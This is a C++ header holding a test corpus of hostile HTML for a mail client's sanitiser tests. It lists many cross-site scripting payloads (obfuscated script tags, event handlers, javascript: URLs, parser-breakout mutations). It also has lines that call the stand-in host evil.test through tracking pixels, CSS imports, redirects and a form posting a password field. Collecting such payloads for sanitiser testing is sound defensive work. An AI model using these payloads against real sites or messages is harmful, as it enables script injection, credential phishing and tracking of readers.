// tests/corpus/hostile_html: HTML that wants something of whoever shows it. What it does if it may: alert(1), a request to evil.test, a navigation
// there, or a picture over what is around it.
//
// Owns:   the documents. One that got through once is added here.
// Used by: tests of the sanitiser (tests/protocol/mime), and of what browsers make of its output (tests/console/hostile.test.mjs).
#pragma once

#include <string_view>

namespace mailherd::corpus {

using namespace std::string_view_literals;

inline constexpr std::string_view hostile_html[] = {
    // scripts
    "<script>alert(1)</script>"sv, "<SCRIPT SRC=//evil.test/x.js></SCRIPT>"sv, "<scr<script>ipt>alert(1)</scr</script>ipt>"sv,
    "<scr\0ipt>alert(1)</script>"sv, "<!--[if IE]><script>alert(1)</script><![endif]-->"sv, "<![CDATA[<script>alert(1)</script>]]>"sv,
    "<template><script>alert(1)</script></template>"sv, "<xmp><script>alert(1)</script></xmp>"sv, "</p></div></body><script>alert(1)</script>"sv,
    "</div></div></td></table><script>alert(1)</script>"sv, "<svg><script>alert(1)</script></svg>"sv,
    "<svg><script href=//evil.test/x.js></script></svg>"sv, "<b \"<script>alert(1)</script>\">hi</b>"sv,
    "<script>location = 'https://evil.test/away'</script>"sv, "<script>window.open('https://evil.test/popup')</script>"sv,
    "<script type=module>alert(1)</script>"sv, "\xEF\xBB\xBF<script>alert(1)</script>"sv, "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"sv,
    "\xC0\xBCscript\xC0\xBE"
    "alert(1)"sv,
    // handlers
    "<img src=x onerror=alert(1)>"sv, "<img src=x:x onerror=\"alert(1)\"//"sv, "<svg/onload=alert(1)>"sv,
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"sv, "<video src=x onerror=alert(1)></video>"sv,
    "<video><source onerror=alert(1)></video>"sv, "<audio src onloadstart=alert(1)>"sv, "<input autofocus onfocus=alert(1)>"sv,
    "<details open ontoggle=alert(1)>x</details>"sv, "<marquee onstart=alert(1)>x</marquee>"sv, "<body onload=alert(1)>"sv,
    "<p onclick=alert(1) onmouseover=alert(1)>x</p>"sv, "<p id='x' class='y' name='z' onclick=alert(1) data-x=1 xmlns='q'>x</p>"sv,
    "<a href=\"https://x.test/\" onmouseover=\"alert(1)\" style=\"position:fixed;top:0\">x</a>"sv, "<img/src/onerror=alert(1)>"sv,
    "<img\x0Csrc=x\x0Conerror=alert(1)>"sv, "<div onanimationstart=alert(1) style='animation: x 1s'><style>@keyframes x {}</style></div>"sv,
    "<xss tabindex=1 autofocus onfocus=alert(1)>x</xss>"sv, "<button autofocus onfocus=alert(1)>x</button>"sv,
    "<select autofocus onfocus=alert(1)></select>"sv,
    // what ends an attribute, a text or an element for one parser and not for another
    "<p title='\"><script>alert(1)</script>'>x</p>"sv, "<p title='`onclick=alert(1)'>x</p>"sv, "<img alt=\"``onerror=alert(1)\" src=x>"sv,
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"sv,
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>"sv,
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>"sv, "<style><img title=\"</style><img src=x onerror=alert(1)>\"></style>"sv,
    "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>"sv, "<!--><img src=x onerror=alert(1)>-->"sv,
    "<!--a--!><img src=x onerror=alert(1)>"sv, "<!-- --><!---!><img src=x onerror=alert(1)>"sv, "<?xml ><img src=x onerror=alert(1)> ?>"sv,
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"sv,
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">"sv,
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>"sv,
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">"sv, "<svg><desc><table><p><a title=\"</table><img src=x onerror=alert(1)>\">"sv,
    "<table><td><a title=\"</a></td></table><img src=x onerror=alert(1)>\">"sv, "<plaintext><img src=x onerror=alert(1)>"sv,
    "&lt;script&gt;alert(1)&lt;/script&gt;"sv, "&amp;lt;img src=x onerror=alert(1)&amp;gt;"sv,
    "<a title='&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;'>x</a>"sv,
    // addresses
    "<img src='javascript:alert(1)'>"sv, "<a href='javascript:alert(1)'>x</a>"sv, "<a href=' \x01java\nscript:alert(1)'>x</a>"sv,
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>"sv, "<a href='java&Tab;script&#58;alert(1)'>x</a>"sv,
    "<a href='&#106;&#x61;vascript:alert(1)'>x</a>"sv, "<a href='data:text/html,<script>alert(1)</script>'>x</a>"sv, "<a href='vbscript:x'>x</a>"sv,
    "<a href='//evil.test/x'>x</a>"sv, "<a href='https://x.test' ping='https://evil.test/ping'>x</a>"sv,
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>"sv, "<math href='javascript:alert(1)'>x</math>"sv,
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'/></svg>"sv,
    "<map name=m><area shape=default href='javascript:alert(1)'></map><img usemap=#m src=x>"sv,
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>"sv, "<embed src='data:text/html,<script>alert(1)</script>'>"sv,
    "<object data='data:text/html,<script>alert(1)</script>'></object>"sv, "<object data='https://evil.test/x'></object>"sv,
    // frames, forms, and what steers the page
    "<iframe src='javascript:alert(1)'></iframe>"sv, "<iframe srcdoc='<script>alert(1)</script>'></iframe>"sv,
    "<iframe src='https://evil.test/frame'></iframe>"sv, "<frameset><frame src='javascript:alert(1)'></frameset>"sv,
    "<form action='https://evil.test'><input name=password><button>go</button></form>"sv,
    "<form id=f action='javascript:alert(1)'></form><button form=f>x</button>"sv, "<button formaction='javascript:alert(1)'>x</button>"sv,
    "<isindex action='javascript:alert(1)' type=image>"sv, "<meta http-equiv=refresh content='0;url=https://evil.test/refresh'>"sv,
    "<base href='https://evil.test/'><img src=relative>"sv, "<base target=_top><a href='https://x.test'>x</a>"sv,
    "<portal src='https://evil.test/portal'></portal>"sv, "<dialog open style='position:fixed;inset:0'>x</dialog>"sv,
    // what is fetched
    "<link rel=stylesheet href='https://evil.test/x.css'>"sv, "<link rel=prefetch href='https://evil.test/x'>"sv,
    "<link rel=dns-prefetch href='//evil.test'>"sv, "<img src='https://evil.test/pixel.gif'>"sv,
    "<img srcset='https://evil.test/pixel.gif 1x' src=data:,>"sv, "<picture><source srcset='https://evil.test/x'><img src=data:,></picture>"sv,
    "<img src='//evil.test/pixel.gif'>"sv, "<img src='\\\\evil.test\\pixel.gif'>"sv, "<input type=image src='https://evil.test/x'>"sv,
    "<video poster='https://evil.test/x'></video>"sv, "<body background='https://evil.test/x'>"sv,
    "<table background='https://evil.test/x'><td background='https://evil.test/y'>x</table>"sv, "<svg><image href='https://evil.test/x'/></svg>"sv,
    "<style>@import 'https://evil.test/x.css';</style>"sv, "<style>p{background:url(https://evil.test/x)}</style><p>x</p>"sv,
    "<style>body{background:url(javascript:alert(1))}</style>"sv, "<div style='background:url(https://evil.test/x)'>x</div>"sv,
    "<div style='background-image:u\\72l(https://evil.test/x)'>x</div>"sv,
    "<div style='background-color:red;background:image-set(\"https://evil.test/x\" 1x)'>x</div>"sv,
    "<ul style='list-style:url(https://evil.test/x)'><li>x</ul>"sv,
    "<p style='content:url(https://evil.test/x);cursor:url(https://evil.test/y),auto'>x</p>"sv, "<div style='width: expression(alert(1))'>x</div>"sv,
    "<div style='color: r\\65 d; behavior: url(x)'>x</div>"sv, "<p style=\"font-family:'x';background:url('https://evil.test/x')\">x</p>"sv,
    "<p style='font-family:\"</p><img src=x onerror=alert(1)>\"'>x</p>"sv,
    // what covers the page around it
    "<div style='position:fixed;top:0;left:0;width:9999px;height:9999px;background-color:red'>x</div>"sv,
    "<div style='position:absolute;top:-50px;left:-50px;width:900px;height:900px'>x</div>"sv,
    "<style>#above{display:none} *{color:red !important}</style>"sv,
    "<div style='margin-top:-400px;margin-left:-400px;width:2000px;height:2000px;background-color:red'>x</div>"sv,
    "<div style='margin: -400px 0 0 -400px; padding: 900px'>x</div>"sv, "<p style='text-indent:-600px'>Sign in again: https://evil.test</p>"sv,
    "<div style='transform:translateY(-300px) scale(9)'>x</div>"sv, "<p style='letter-spacing:-9px;line-height:-3'>x</p>"sv,
    "</div></div><p style='display:block'>outside</p>"sv, "<table style='margin-top:-.9e3px' height=2000 width=2000 bgcolor=red><tr><td>x</table>"sv,
    "<!--"sv, "<div title=\""sv};

}  // namespace mailherd::corpus
